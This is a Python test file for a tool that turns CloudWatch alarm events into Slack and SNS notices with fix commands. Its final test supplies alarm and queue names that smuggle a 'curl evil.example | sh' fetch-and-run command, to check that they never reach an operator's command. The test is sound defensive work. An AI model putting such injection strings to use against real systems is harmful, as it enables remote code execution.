"""pipewarden's own alarms -> messages: what is wrong, how many wait, the command; then "resolved".

The events are shaped as CloudWatch sends them to EventBridge (events/cloudwatch-alarm-*.json, after
https://docs.aws.amazon.com/AmazonCloudWatch/latest/monitoring/cloudwatch-and-eventbridge.html).
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipewarden import alarms
from pipewarden.envelope import InvalidEvent
from pipewarden.messages import slack_payload, sns_attributes, sns_message
from pipewarden.notify_rules import FAILURES, Audience, Facts, compose, importance, parse
from tests.conftest import sample_event
from tests.unit.test_messages import validate

RAISED = "cloudwatch-alarm-dead-letters.json"
RESOLVED = "cloudwatch-alarm-dead-letters-resolved.json"


def alarm_event(
    name: str = "pipewarden-function-failures", state: str = "ALARM", previous: str = "OK", **extra: Any
) -> dict[str, Any]:
    event = copy.deepcopy(sample_event(RAISED))
    event["detail"]["alarmName"] = name
    event["detail"]["state"]["value"] = state
    event["detail"]["previousState"]["value"] = previous
    event["detail"]["state"].update(extra)
    return event


def test_an_alarm_is_told_with_what_is_wrong_how_many_wait_and_the_command() -> None:
    # Given CloudWatch's event for the on-failure queue's alarm going OK -> ALARM with 3 waiting
    happening = parse(sample_event(RAISED))
    # When the notifier composes its message
    notice = compose(happening, Facts())
    # Then it says what is wrong, how many wait and the command that fixes it, at severity error
    assert importance(happening, Audience(FAILURES)) == FAILURES
    assert notice.title == "Alarm pipewarden-function-failures: 3 invocations failed after Lambda's retries"
    assert notice.severity == "error"
    assert "pipewarden-FunctionFailureQueue-1ABCDEFGHIJK" in notice.summary
    assert notice.decision.endswith("pipewarden replay-dlq --stack-name pipewarden")
    assert notice.detail["waiting"] == 3
    assert sns_attributes(notice)["severity"]["StringValue"] == "error"
    assert sns_attributes(notice)["state"]["StringValue"] == "ALARM"
    payload = slack_payload(notice)
    validate(payload)
    assert "pipewarden replay-dlq --stack-name pipewarden" in json.dumps(payload)
    assert json.loads(sns_message(notice))["decision"] == notice.decision


def test_the_return_to_ok_is_told_as_resolved() -> None:
    happening = parse(sample_event(RESOLVED))
    notice = compose(happening, Facts())
    assert importance(happening, Audience(FAILURES)) == FAILURES
    assert notice.title == "Resolved: pipewarden-function-failures"
    assert notice.severity == "info"
    assert notice.summary == "The functions' on-failure queue is empty again."
    assert notice.decision == ""
    assert sns_attributes(notice)["state"]["StringValue"] == "OK"


@pytest.mark.parametrize(
    ("state", "previous"),
    [("OK", "INSUFFICIENT_DATA"), ("INSUFFICIENT_DATA", "OK"), ("INSUFFICIENT_DATA", "ALARM")],
)
def test_a_change_that_is_not_alarm_or_resolved_is_nobodys_news(state: str, previous: str) -> None:
    # A new alarm's first evaluation (INSUFFICIENT_DATA -> OK) would otherwise say "resolved".
    happening = parse(alarm_event(state=state, previous=previous))
    assert importance(happening, Audience("all")) is None


def test_a_second_delivery_of_the_same_change_has_the_same_key() -> None:
    # CloudWatch guarantees delivery; a change sent twice carries the same state timestamp.
    first, again = sample_event(RAISED), sample_event(RAISED)
    again["id"] = "another-id"
    assert parse(first).key == parse(again).key == parse(first).once
    assert parse(first).key != parse(sample_event(RESOLVED)).key


@pytest.mark.parametrize(
    ("watch", "fix"),
    [
        ("rule-dead-letters", "pipewarden replay-dlq --stack-name ops-pipewarden"),
        ("function-failures", "pipewarden replay-dlq --stack-name ops-pipewarden"),
        (
            "retry-dead-letters",
            "aws sqs start-message-move-task --source-arn "
            "arn:aws:sqs:us-east-1:123456789012:pipewarden-FunctionFailureQueue-1ABCDEFGHIJK",
        ),
        ("handler-errors", "aws logs tail /aws/lambda/<function>"),
        ("resync-stalled", "aws logs tail /aws/lambda/<enroll function>"),
    ],
)
def test_each_alarm_names_its_fix_for_its_own_stack(watch: str, fix: str) -> None:
    notice = compose(parse(alarm_event(f"ops-pipewarden-{watch}")), Facts())
    assert fix in notice.decision
    assert notice.title.startswith(f"Alarm ops-pipewarden-{watch}: ")
    validate(slack_payload(notice))


def test_a_queue_alarm_says_how_many_wait_a_resync_alarm_does_not() -> None:
    two = alarm_event("pipewarden-rule-dead-letters", reasonData=json.dumps({"recentDatapoints": [1.0, 2.0]}))
    assert (
        compose(parse(two), Facts()).title
        == "Alarm pipewarden-rule-dead-letters: 2 events dead-lettered by EventBridge"
    )
    one = alarm_event("pipewarden-retry-dead-letters", reasonData=json.dumps({"recentDatapoints": [1.0]}))
    assert "1 queued retry failed" in compose(parse(one), Facts()).summary
    unknown = alarm_event("pipewarden-rule-dead-letters", reasonData="not json")
    assert (
        compose(parse(unknown), Facts()).title
        == "Alarm pipewarden-rule-dead-letters: events dead-lettered by EventBridge"
    )
    resync = compose(parse(alarm_event("pipewarden-resync-stalled")), Facts())
    assert "waiting" not in resync.detail
    assert resync.title == "Alarm pipewarden-resync-stalled: no resync completed in two periods"


@pytest.mark.parametrize(
    "change",
    [
        {"alarmName": "someone-elses-alarm"},
        {"alarmName": "function-failures"},  # no stack before the watch
        {"alarmName": 7},
        {"state": {"value": "BROKEN"}},
        {"previousState": None},
    ],
)
def test_an_alarm_event_that_is_not_one_of_pipewardens_is_refused(change: dict[str, Any]) -> None:
    event = sample_event(RAISED)
    event["detail"].update(change)
    with pytest.raises(InvalidEvent):
        parse(event)


def test_the_resync_heartbeat_is_read_and_never_told() -> None:
    heartbeat = {
        "id": "h-1",
        "source": "pipewarden",
        "detail-type": alarms.RESYNC_COMPLETED,
        "detail": {"repositories": 3, "stacks": 3},
    }
    assert importance(parse(heartbeat), Audience("all")) is None


STATE = st.one_of(
    st.none(),
    st.text(max_size=10),
    st.fixed_dictionaries(
        {"value": st.sampled_from(["OK", "ALARM", "INSUFFICIENT_DATA", "X"])},
        optional={
            "reasonData": st.one_of(
                st.text(max_size=40),
                st.just('{"recentDatapoints": [1e400, -3, "x"]}'),
                st.builds(lambda v: json.dumps({"recentDatapoints": v}), st.lists(st.floats(), max_size=3)),
            ),
            "timestamp": st.text(max_size=30),
        },
    ),
)


@settings(max_examples=300, deadline=None)
@given(
    detail=st.fixed_dictionaries(
        {},
        optional={
            "alarmName": st.one_of(
                st.text(max_size=30),
                st.integers(),
                st.sampled_from(
                    [f"{stack}-{watch}" for stack in ("pipewarden", "a<b>&@c") for watch in alarms.WATCHES]
                ),
            ),
            "state": STATE,
            "previousState": STATE,
            "configuration": st.one_of(
                st.none(), st.text(max_size=10), st.just({"metrics": [{"metricStat": None}]})
            ),
        },
    )
)
def test_any_alarm_detail_is_read_or_refused_never_crashes(detail: dict[str, Any]) -> None:
    event = {"id": "e", "source": alarms.SOURCE, "detail-type": alarms.STATE_CHANGE, "detail": detail}
    try:
        happening = parse(event)
    except InvalidEvent:
        return
    notice = compose(happening, Facts())
    validate(slack_payload(notice))
    json.loads(sns_message(notice))


def test_a_name_written_into_an_alarm_never_reaches_a_command_the_operator_runs() -> None:
    # Whoever may write an alarm (cloudwatch:PutMetricAlarm) chooses its name and its QueueName
    # dimension, and CloudWatch then sends a genuine state change: a name that is not a stack's or a
    # queue's (CreateStack's and CreateQueue's rules) is not told, and no queue name carries a command.
    hostile = "pipewarden; curl evil.example | sh #-function-failures"
    with pytest.raises(InvalidEvent):
        alarms.read(alarm_event(hostile)["detail"])
    event = alarm_event()
    for metric in event["detail"]["configuration"]["metrics"]:
        metric["metricStat"]["metric"]["dimensions"]["QueueName"] = "x --destination-arn y; curl z | sh #"
    change = alarms.read(event["detail"], "us-east-1", "123456789012")
    assert change.queue == ""
    _, summary, fix = alarms.wording(change)
    assert "curl" not in summary + fix and ";" not in fix
